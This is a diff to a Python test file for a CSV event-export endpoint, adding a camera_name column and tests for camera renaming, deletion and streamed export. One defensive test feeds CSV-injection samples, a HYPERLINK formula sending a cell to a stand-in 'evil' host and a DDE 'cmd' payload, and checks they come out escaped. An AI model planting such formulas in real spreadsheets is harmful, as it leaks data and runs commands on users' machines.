@@ -16,7 +16,8 @@ from tests import effort
 from tests.posting import detection, post_camera, post_detections, post_event
 
 URL = "/api/events/export"
-COLUMNS = list(EventSchema().fields)
+ID, CAMERA_ID, *OTHERS = EventSchema().fields
+COLUMNS = [ID, CAMERA_ID, "camera_name", *OTHERS]
 NOON = "2025-12-23T12:00:00.000000Z"
 
 
@@ -67,10 +68,38 @@ def test_a_row_has_the_values_of_the_event_in_json(client, camera):
     empty = post_event(client, camera)
     for row, stored in zip(read(client.get(URL)), (empty, full), strict=True):
         wire = {True: "true", False: "false", None: ""}
-        assert row == {
+        assert row == {"camera_name": camera["name"]} | {
             name: wire[value] if value is None or isinstance(value, bool) else str(value)
             for name, value in stored.items()
         }
+
+
+def test_each_event_has_the_name_that_its_camera_has_now(client, camera):
+    other = post_camera(client, name="Garden, left")
+    for each in (camera, other, camera):
+        post_event(client, each)
+    client.patch(f"/api/cameras/{camera['id']}", json={"name": "Gate"})
+    named = [row["camera_name"] for row in read(client.get(URL))]
+    assert named == ["Gate", "Garden, left", "Gate"]
+
+
+def test_the_events_of_a_deleted_camera_are_deleted_too(client, camera):
+    other = post_camera(client, name="Garden")
+    post_event(client, camera)
+    post_event(client, other)
+    client.delete(f"/api/cameras/{camera['id']}")
+    assert [row["camera_name"] for row in read(client.get(URL))] == ["Garden"]
+
+
+def test_a_camera_that_is_deleted_during_the_export_may_be_without_a_name(client, camera):
+    other = post_camera(client)
+    post_event(client, other, started_at="2025-12-23T11:00:00Z")
+    post_event(client, camera)
+    lines = iter(client.get(URL, buffered=False).response)
+    assert camera["name"].encode() in list(islice(lines, 2))[1]
+    client.delete(f"/api/cameras/{other['id']}")
+    (line,) = lines
+    assert f",{other['id']},,2025-12-23T11".encode() in line
 
 
 def test_the_lists_filters_choose_the_rows(client, camera):
@@ -182,12 +211,14 @@ def test_a_csv_reader_reads_back_exactly_what_was_written(cells):
     assert text.endswith("\r\n")
 
 
-def test_formulas_arrive_harmless_from_every_text_column(client, camera):
+def test_formulas_arrive_harmless_from_every_text_column(client):
     dangerous = '=HYPERLINK("http://evil/?"&A1,"ok")'
+    camera = post_camera(client, name="=1+1")
     post_event(
         client, camera, summary=dangerous, reasoning=f"  {dangerous}", notes="-1+cmd|' /C calc'!A0"
     )
     (row,) = read(client.get(URL))
+    assert row["camera_name"] == "'=1+1"
     assert row["summary"] == "'" + dangerous
     assert row["reasoning"] == f"'  {dangerous}"
     assert row["notes"] == "'-1+cmd|' /C calc'!A0"
